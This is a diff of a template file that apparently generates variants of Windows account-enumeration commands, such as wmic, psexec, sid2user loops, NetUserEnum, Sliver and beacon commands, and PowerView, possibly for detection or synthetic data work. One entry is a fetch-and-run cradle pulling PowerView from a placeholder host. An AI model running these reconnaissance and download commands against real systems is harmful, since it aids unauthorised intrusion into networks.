@@ -43,7 +43,7 @@ wmic-useraccount-out cmd: «wmic¦wmic.exe» useraccount «list full¦get name,s
 wmic-useraccount-find cmd: wmic useraccount get name,sid,disabled | «findstr /i admin¦find "-500"¦more¦sort»
 wmic-useraccount-chain cmd: whoami /user & wmic useraccount get name,sid
 wmic-useraccount-format cmd: wmic useraccount «get¦list full» /format:«csv¦list¦htable¦table¦value»
-wmic-useraccount-loop cmd: for /f "skip=1" %«u¦i¦a» in ('wmic useraccount get name') do @echo %«u¦i¦a»
+wmic-useraccount-loop cmd: for /f "skip=1" %u in ('wmic useraccount get name') do @echo %u
 wmic-useraccount-lockout cmd: wmic useraccount where "«lockout=true¦PasswordRequired=false¦Status='OK'¦passwordexpires=false»" get name,«sid¦domain¦status»
 wmic-useraccount-psexec cmd: psexec \\‹server› -s wmic useraccount «list brief¦get name»
 wmic-useraccount-path cmd: wmic path «win32_useraccount¦Win32_Account¦Win32_SystemAccount¦Win32_UserProfile¦Win32_NetworkLoginProfile» get «name,sid¦name¦*»
@@ -73,7 +73,7 @@ script-users-out cmd: cscript //B «enumusers¦listusers¦localusers¦users».vb
 script-vbs text: Set o = GetObject("WinNT://«.¦‹server›¦localhost»"): o.Filter = Array("user"): For Each u In o: WScript.Echo u.Name: Next
 script-vbs-wmi text: For Each u In GetObject("winmgmts:\\.\root\cimv2").ExecQuery("Select * from Win32_UserAccount Where LocalAccount = True"): WScript.Echo u.Name: Next
 enum-tool-psexec cmd: psexec \\‹server› -c ‹dir›\«lg¦userdump¦user2sid¦sid2user¦dumpusers¦enum».exe
-enum-tool-out cmd: «lg.exe \\‹server› -lu¦userdump.exe \\‹ip› ‹user› 500¦dumpusers.exe -target ‹server› -type dc¦enum.exe -U -c ‹server›¦user2sid.exe \\‹ip› administrator» > ‹file›
+enum-tool-out cmd: «lg.exe \\‹server› -lu¦userdump.exe \\‹ip› ‹user› 500¦dumpusers.exe -target ‹server› -type notdc¦enum.exe -U -c ‹server›¦user2sid.exe \\‹ip› administrator» > ‹file›
 enum-tool-chain cmd: «user2sid¦user2sid.exe» \\‹ip› "domain users" & «sid2user¦sid2user.exe» \\‹ip› 5 21 ‹pid› ‹pid› ‹pid› 50«0¦1»
 enum-tool-loop cmd: for /L %i in (1000,1,1050) do «sid2user.exe \\‹ip› 5 21 ‹pid› ‹pid› ‹pid› %i¦sid2user \\‹server› 5 21 ‹pid› ‹pid› ‹pid› %i >> ‹file›»
 enum-tool-hosts cmd: for /f %h in (‹name›.txt) do «enum.exe -U %h¦lg.exe \\%h -lu¦userdump.exe \\%h¦dumpusers.exe -target %h -type notdc»
@@ -114,7 +114,7 @@ ps-principal-load powershell: [void][Reflection.Assembly]::LoadWithPartialName('
 ps-netuserenum powershell: [«Netapi32¦Win32¦‹Word›»]::NetUserEnum($null, 0, 2, [ref]$buf, -1, [ref]$r, [ref]$t, [ref]$h)
 ps-netuserenum-type powershell: Add-Type -MemberDefinition '[DllImport("netapi32.dll")] public static extern int NetUserEnum(string s, int l, int f, out IntPtr b, int m, out int r, out int t, int h);' -Name ‹Word› -Namespace Win32
 netuserenum-python cmd: «python¦py» -c "import win32net; print(win32net.NetUserEnum(«None¦'‹server›'», 0))"
-netuserenum-beacon text: «beacon¦sliver (‹word›)¦[server] sliver (‹word›)» > «inline-execute ¦»netuserenum«.o¦ \\\\‹server›¦»
+netuserenum-beacon text: «beacon¦sliver (‹word›)¦[server] sliver (‹word›)» > «inline-execute ¦»netuserenum«.o¦ \\‹server›¦»
 netuserenum-tool cmd: ‹dir›\«NetUserEnum¦netuserenum».exe «\\‹server›¦localhost¦»
 ps-powerview-local powershell: «Get-NetLocalUser -ComputerName ‹server›¦Import-Module .\PowerView.ps1; Get-NetLocalUser¦IEX (iwr http://‹ip›/PowerView.ps1); Get-NetLocalUser¦Get-NetLocalUser | select UserName,SID»
 sharpview-local cmd: ‹dir›\SharpView.exe Get-NetLocalUser -ComputerName ‹server›
